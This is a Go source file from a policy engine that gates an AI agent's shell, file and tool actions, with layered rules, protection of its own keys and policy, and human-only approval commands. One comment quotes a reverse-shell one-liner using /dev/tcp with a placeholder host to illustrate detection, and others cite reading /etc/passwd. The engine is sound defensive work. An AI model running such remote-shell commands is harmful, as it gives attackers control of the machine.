package policy

import (
	"net/url"
	"strings"

	"github.com/safeclaw/safeclaw/action"
)

// outcome is how one part was decided.
type outcome struct {
	effect action.Effect
	ref    *action.RuleRef // nil: the default decided
	reason string
	rule   *rule // the user rule that decided, if any
	policy *Policy
	layer  string
	// needs is what an ask needs (quorum, approvers): of every rule that
	// asked about the part, in every layer.
	needs *action.ApprovalNeeds
}

var (
	protectWriteOutcome = outcome{effect: action.Deny, ref: &protectWriteRef, reason: protectWriteRef.Reason}
	protectReadOutcome  = outcome{effect: action.Deny, ref: &protectReadRef, reason: protectReadRef.Reason}
	selfApproveOutcome  = outcome{effect: action.Deny, ref: &selfApproveRef, reason: selfApproveRef.Reason}
	protectArgOutcome   = outcome{effect: action.Deny, ref: &protectArgRef, reason: protectArgRef.Reason}
	protectCodeOutcome  = outcome{effect: action.Deny, ref: &protectCodeRef, reason: protectCodeRef.Reason}
	opaqueOutcome       = outcome{effect: action.Deny, ref: &opaqueRef, reason: opaqueRef.Reason}
	remoteOutcome       = outcome{effect: action.Deny, ref: &remoteRef, reason: remoteRef.Reason}
)

const (
	emptyRequestReason = "the request has no parts: nothing to allow"
	noPolicyReason     = "no compiled policy; default deny"
)

// Decide evaluates req: for each part the first rule matching one of its
// facets (after built-in self-protection; then the built-in tail rules and
// the default), and the most restrictive part decides. It is pure and safe
// for concurrent use; req.Time drives schedules and expiry. The returned
// Decision's Rule points at shared data and must not be modified.
func (p *Policy) Decide(req *action.Request) action.Decision {
	if p == nil || p.byKind == nil || req == nil {
		// A policy that failed to load or compile (or a zero Policy) decides
		// nothing: deny, never a panic a caller might turn into an allow.
		return action.Decision{Part: -1, Reason: noPolicyReason}
	}
	d := action.Decision{Part: -1, PolicyHash: p.hash}
	if len(req.Parts) == 0 {
		d.Reason = emptyRequestReason
		return d
	}
	var best outcome
	var needs *action.ApprovalNeeds
	for i := range req.Parts {
		o := p.decidePart(req, &req.Parts[i], false)
		if o.effect == action.Ask {
			needs = needs.Merge(o.needs)
		}
		if d.Part < 0 || worse(o, best) || tieToCommand(o, best, req, i, d.Part) {
			best, d.Part = o, i
		}
	}
	d.Effect, d.Rule, d.Reason = best.effect, best.ref, best.reason
	if best.rule != nil {
		d.Timeout = best.rule.timeout
	}
	return withNeeds(d, needs)
}

// withNeeds gives an ask decision the approval needs of its asking rules.
// Needs nobody can meet (approver lists that share nobody) make it a deny:
// an ask that can never be approved would only wait for its timeout.
func withNeeds(d action.Decision, needs *action.ApprovalNeeds) action.Decision {
	if d.Effect != action.Ask || !needs.Restricted() {
		return d
	}
	if needs.Impossible() {
		d.Effect = action.Deny
		d.Reason += " (and nobody can approve it: the rules that ask name no approver in common)"
		return d
	}
	// A copy: the needs may be a compiled rule's own, which callers must
	// not be able to change.
	c := *needs
	c.Approvers = append([]string(nil), needs.Approvers...)
	d.Approval = &c
	return d
}

// worse reports whether part outcome o should replace the current worst:
// a more restrictive effect, or the same effect decided by a rule where the
// current one was only the default (so `cd x && python -m http.server`
// reports the rule that caught the server, not the default that caught cd),
// or by an earlier rule of the same policy than the current one. First match
// puts the specific rules first, so for `exec 3<>/dev/tcp/h/p; sh <&3 >&3`
// the report names "Block remote shells" on sh, not the catch-all that
// denied exec.
func worse(o, cur outcome) bool {
	if o.effect.Rank() != cur.effect.Rank() {
		return o.effect.Rank() > cur.effect.Rank()
	}
	if cur.ref == nil {
		return o.ref != nil
	}
	return o.rule != nil && cur.rule != nil && o.policy == cur.policy && o.rule.index < cur.rule.index
}

// tieToCommand breaks a tie between equally decided parts in favour of a
// command over a redirection part (no views): for `echo x > notes.txt`,
// allowed, the report names the rule that allowed echo, not the one that
// allowed writing notes.txt.
func tieToCommand(o, cur outcome, req *action.Request, i, curPart int) bool {
	if o.effect != cur.effect || (o.ref == nil) != (cur.ref == nil) {
		return false
	}
	return len(req.Parts[curPart].Views) == 0 && len(req.Parts[i].Views) > 0
}

func (p *Policy) decidePart(req *action.Request, part *action.Part, skipAllow bool) outcome {
	if o, ok := p.protect(req, part); ok {
		return o
	}
	o := p.defaultOutcome
	if r := p.firstMatch(req, part, skipAllow); r != nil {
		o = r.outcome()
	}
	return tail(part, o)
}

func (r *rule) outcome() outcome {
	reason := r.reason
	if reason == "" {
		reason = r.ref.Name
	}
	return outcome{effect: r.effect, ref: &r.ref, reason: reason, rule: r, needs: r.needs}
}

// protect applies built-in self-protection to the part's file facets.
func (p *Policy) protect(req *action.Request, part *action.Part) (outcome, bool) {
	for i := range part.Views {
		if privilegedSafeclaw(&part.Views[i]) {
			return selfApproveOutcome, true
		}
	}
	if len(p.protectRaw) == 0 {
		return outcome{}, false
	}
	for i := range part.Views {
		if p.codeNamesProtected(&part.Views[i]) {
			return protectCodeOutcome, true
		}
	}
	for i := range part.Facets {
		f := &part.Facets[i]
		switch f.Kind {
		case action.FileWrite, action.FileDelete:
			path := canonicalPath(f.Path, req.Cwd)
			if path == "" {
				continue
			}
			protectW, protectR := p.protected()
			var arr [48][2]int32
			segs := segments(path, arr[:0])
			for j := range protectW {
				g := &protectW[j]
				// A delete of a directory, or a write of a whole tree (git
				// clone into it), reaches what lies under it.
				if g.matchCanonical(path, segs) || ((f.Kind == action.FileDelete || f.Recursive) && g.ancestorOf(path)) {
					return protectWriteOutcome, true
				}
			}
			for j := range protectR {
				// Keys may be neither read nor replaced.
				g := &protectR[j]
				if g.matchCanonical(path, segs) || ((f.Kind == action.FileDelete || f.Recursive) && g.ancestorOf(path)) {
					return protectWriteOutcome, true
				}
			}
		case action.FileRead:
			path := canonicalPath(f.Path, req.Cwd)
			if path == "" {
				continue
			}
			_, protectR := p.protected()
			var arr [48][2]int32
			segs := segments(path, arr[:0])
			for j := range protectR {
				if protectR[j].matchCanonical(path, segs) || (f.Recursive && protectR[j].ancestorOf(path)) {
					return protectReadOutcome, true
				}
			}
		default:
			if f.Kind == action.MCPCall || f.Kind == action.MCPPrompt || strings.HasPrefix(string(f.Kind), "tool.") {
				if p.argsNameProtected(f.Args, req.Cwd) {
					return protectArgOutcome, true
				}
			}
		}
	}
	return outcome{}, false
}

// argsNameProtected reports whether the arguments of an MCP or unknown tool
// name one of safeclaw's protected files: a string argument (at any depth)
// that is an absolute path, a ~/ path or a file: URL, matched exactly (a
// directory above them, such as the home directory, is not). What the tool
// does with the path is unknown, so reading and writing are both refused:
// a filesystem server's read_file of the keys, or its write_file of the
// policy.
func (p *Policy) argsNameProtected(args any, cwd string) bool {
	budget := 256 // strings examined: arguments are the agent's, keep it bounded
	return p.walkArgsProtected(args, cwd, 0, &budget)
}

// walkArgsProtected is argsNameProtected's walk (a method, not a recursive
// closure, which would be allocated on every call).
func (p *Policy) walkArgsProtected(v any, cwd string, depth int, budget *int) bool {
	if *budget <= 0 || depth > 4 {
		return false
	}
	switch x := v.(type) {
	case string:
		*budget--
		return p.protectedArg(x, cwd)
	case []any:
		for _, e := range x {
			if p.walkArgsProtected(e, cwd, depth+1, budget) {
				return true
			}
		}
	case map[string]any:
		for _, e := range x {
			if p.walkArgsProtected(e, cwd, depth+1, budget) {
				return true
			}
		}
	}
	return false
}

// protectedArg reports whether s, read as a path, is protected: an
// absolute path, a ~/ path, a path relative to the request's working
// directory, or a file: URL in any spelling a server's URL parser reads as
// a local file.
func (p *Policy) protectedArg(s, cwd string) bool {
	if len(s) > 4096 {
		return false
	}
	if u, ok := fileURLPath(s); ok {
		s = u
	} else if strings.ContainsAny(s, "\n\x00") {
		return false
	}
	switch {
	case strings.HasPrefix(s, "~/"):
		if p.home == "" {
			return false
		}
		s = p.home + s[1:]
	case s == "" || s == "~":
		return false
	case s[0] != '/':
		// Relative: where the tool's server resolves it is unknown; the
		// request's directory is the likeliest (an agent's project).
		if cwd == "" || cwd[0] != '/' {
			return false
		}
	}
	path := canonicalPath(s, cwd)
	var arr [48][2]int32
	segs := segments(path, arr[:0])
	protectW, protectR := p.protected()
	for _, list := range [2][]pathGlob{protectR, protectW} {
		for j := range list {
			if list[j].matchCanonical(path, segs) {
				return true
			}
		}
	}
	return false
}

// fileURLPath returns the local path a file: URL names, read as lenient
// URL parsers read it (WHATWG's, in Node and browsers; Python's): leading
// and trailing spaces and control characters and every tab and line break
// dropped, the scheme in any case, a backslash as a slash, the host (any:
// many servers ignore it) and the query and fragment dropped, escapes
// decoded. ok is false when s is no file: URL or names no path.
func fileURLPath(s string) (string, bool) {
	s = strings.TrimFunc(s, func(r rune) bool { return r <= ' ' })
	if len(s) < 5 || (s[0] != 'f' && s[0] != 'F') {
		return "", false
	}
	s = strings.Map(func(r rune) rune {
		switch r {
		case '\t', '\n', '\r':
			return -1
		case '\\':
			return '/'
		}
		return r
	}, s)
	if len(s) < 5 || !strings.EqualFold(s[:5], "file:") {
		return "", false
	}
	s = s[5:]
	if i := strings.IndexAny(s, "?#"); i >= 0 {
		s = s[:i]
	}
	if rest, ok := strings.CutPrefix(s, "//"); ok {
		// file://host/path: the path starts at the next slash.
		i := strings.IndexByte(rest, '/')
		if i < 0 {
			return "", false
		}
		s = rest[i:]
	}
	if u, err := url.PathUnescape(s); err == nil {
		s = u
	}
	if s == "" || strings.ContainsRune(s, 0) {
		return "", false
	}
	if s[0] != '/' {
		s = "/" + s // file:etc/passwd is file:///etc/passwd to WHATWG
	}
	return s, true
}

// hasGoFlag reports whether v holds one of the named flags as Go's flag
// package reads them: one dash or two, a value after "=" or not.
func hasGoFlag(v *action.Argv, names ...string) bool {
	for _, o := range v.Options {
		name, _, _ := strings.Cut(strings.TrimLeft(o.Name, "-"), "=")
		for _, n := range names {
			if name == n {
				return true
			}
		}
	}
	return false
}

// tail applies the built-in tail rules: a part with a shell.opaque or
// shell.remote facet is denied unless the rule that decided it names that
// kind exactly. A user deny stays the reported rule.
func tail(part *action.Part, o outcome) outcome {
	if o.effect == action.Deny && o.rule != nil {
		return o
	}
	for i := range part.Facets {
		switch part.Facets[i].Kind {
		case action.ShellOpaque:
			if o.rule == nil || !o.rule.namesOpaque {
				return opaqueOutcome
			}
		case action.ShellRemote:
			if o.rule == nil || !o.rule.namesRemote {
				return remoteOutcome
			}
		}
	}
	return o
}

// firstMatch returns the first rule (in policy order) that matches one of
// the part's facets, or nil. skipAllow ignores allow rules (an untrusted
// project layer). It does not allocate.
func (p *Policy) firstMatch(req *action.Request, part *action.Part, skipAllow bool) *rule {
	best := int32(len(p.rules))
	for i := range part.Facets {
		f := &part.Facets[i]
		lb := p.byKind[f.Kind]
		if lb == nil {
			lb = p.wild
		}
		if m := p.scan(lb.get(), req, part, f, best, skipAllow); m < best {
			best = m
		}
	}
	if best == int32(len(p.rules)) {
		return nil
	}
	return p.rules[best]
}

// Layer is one policy layer (architecture.md, semantics 6).
type Layer struct {
	Name   string // managed, user, project or always
	Policy *Policy
	// DenyAskOnly marks an untrusted project policy: only its deny and ask
	// rules count.
	DenyAskOnly bool
}

// DecideLayers evaluates each layer on its own and combines them, per part,
// most-restrictively: a layer whose rules do not match the part has no
// opinion; when no layer has one, the "user" layer's default decides (deny
// without a user layer). The "always" layer's allow rules turn an ask into an
// allow (never a deny). Built-in self-protection of every layer comes first
// and the tail rules last. Decision.Rule.Layer names the deciding layer and
// PolicyHash is that layer's hash. Callers add notes such as "project policy
// not trusted" themselves.
func DecideLayers(layers []Layer, req *action.Request) action.Decision {
	d := action.Decision{Part: -1}
	var user *Policy
	for _, l := range layers {
		if l.Policy != nil && l.Policy.byKind == nil {
			// A layer that is there but not compiled (a zero Policy) could
			// be a managed restriction: deny rather than decide without it.
			d.Reason = noPolicyReason
			return d
		}
		if l.Policy != nil && l.Name == "user" {
			user = l.Policy
		}
	}
	if req == nil {
		d.Reason = noPolicyReason
		return d
	}
	if len(req.Parts) == 0 {
		d.Reason = emptyRequestReason
		if user != nil {
			d.PolicyHash = user.hash
		}
		return d
	}
	var best outcome
	var needs *action.ApprovalNeeds
	for i := range req.Parts {
		o := decideLayersPart(layers, user, req, &req.Parts[i])
		if o.effect == action.Ask {
			needs = needs.Merge(o.needs)
		}
		if d.Part < 0 || worse(o, best) || tieToCommand(o, best, req, i, d.Part) {
			best, d.Part = o, i
		}
	}
	d.Effect, d.Reason = best.effect, best.reason
	if best.policy != nil {
		d.PolicyHash = best.policy.hash
	}
	if best.ref != nil {
		ref := *best.ref
		ref.Layer = best.layer
		d.Rule = &ref
	}
	if best.rule != nil {
		d.Timeout = best.rule.timeout
	}
	return withNeeds(d, needs)
}

func decideLayersPart(layers []Layer, user *Policy, req *action.Request, part *action.Part) outcome {
	for _, l := range layers {
		if l.Policy == nil {
			continue
		}
		if o, ok := l.Policy.protect(req, part); ok {
			o.policy, o.layer = l.Policy, l.Name
			return o
		}
	}
	var o, untrusted outcome
	have, haveUntrusted := false, false
	var always *rule
	var alwaysLayer Layer
	var needs *action.ApprovalNeeds // of every layer's asking rule
	managedAsk := false
	for _, l := range layers {
		if l.Policy == nil {
			continue
		}
		r := l.Policy.firstMatch(req, part, l.DenyAskOnly)
		if r == nil {
			continue
		}
		if r.effect == action.Ask {
			needs = needs.Merge(r.needs)
			managedAsk = managedAsk || l.Name == action.ManagedLayer
		}
		if l.Name == "always" && r.effect == action.Allow {
			if always == nil {
				always, alwaysLayer = r, l
			}
			continue
		}
		if l.DenyAskOnly {
			if !haveUntrusted || r.effect.Rank() > untrusted.effect.Rank() {
				untrusted = r.outcome()
				untrusted.policy, untrusted.layer = l.Policy, l.Name
				haveUntrusted = true
			}
			continue
		}
		if !have || r.effect.Rank() > o.effect.Rank() {
			o = r.outcome()
			o.policy, o.layer = l.Policy, l.Name
			have = true
		}
	}
	if !have {
		if user != nil {
			o = user.defaultOutcome
			o.policy, o.layer = user, "user"
		} else {
			o = outcome{effect: action.Deny, reason: "no rule matched and there is no user policy; default deny"}
		}
	}
	// An untrusted layer (a project policy nobody trusted) can only make
	// the decision stricter than the other layers and the user's default
	// make it: its ask never turns a default deny into a question.
	if haveUntrusted && untrusted.effect.Rank() > o.effect.Rank() {
		o = untrusted
	}
	if o.effect == action.Ask {
		o.needs = needs
	}
	// An "always" approval answers a plain ask, never one that needs a
	// quorum or named approvers (one person's "always" must not stand in
	// for the others), nor one the managed policy makes: whoever manages
	// the machine wants a person asked each time, and an "always" is a
	// rule the user wrote.
	if o.effect == action.Ask && always != nil && !needs.Restricted() && !managedAsk {
		o = always.outcome()
		o.policy, o.layer = alwaysLayer.Policy, alwaysLayer.Name
	}
	t := tail(part, o)
	if t.ref != o.ref {
		t.policy, t.layer = o.policy, o.layer
	}
	return t
}

// privilegedSafeclaw reports whether v runs a safeclaw command that only a
// person may run: approving or denying requests, minting approver tokens,
// trusting a project policy, installing or removing hooks, rewriting the
// policy (init), cutting the audit trail (audit repair), what puts an
// approval question on a terminal the agent may control (run, check
// --wait), or the dashboard, which answers approvals (ui, serve --ui).
func privilegedSafeclaw(v *action.Argv) bool {
	if v.Program != "safeclaw" || len(v.Positionals) == 0 {
		return false
	}
	sub := v.Positionals[0]
	next := ""
	if len(v.Positionals) > 1 {
		next = v.Positionals[1]
	}
	switch sub {
	case "trust", "install", "uninstall", "init":
		return true
	case "run":
		// A nested run asks its approvals on the terminal it was started
		// on: one the agent controls (a pseudo-terminal of its own).
		return true
	case "ui":
		// The dashboard answers approvals and edits the policy; its login
		// link is printed to whoever started it.
		return true
	case "serve":
		return hasGoFlag(v, "ui", "ui-listen")
	case "check":
		// check --wait offers to answer its own request on its terminal.
		return hasGoFlag(v, "wait", "w")
	case "approvals":
		return next == "approve" || next == "deny" || next == "token"
	case "audit":
		return next == "repair"
	case "mcp":
		return next == "trust"
	}
	return false
}
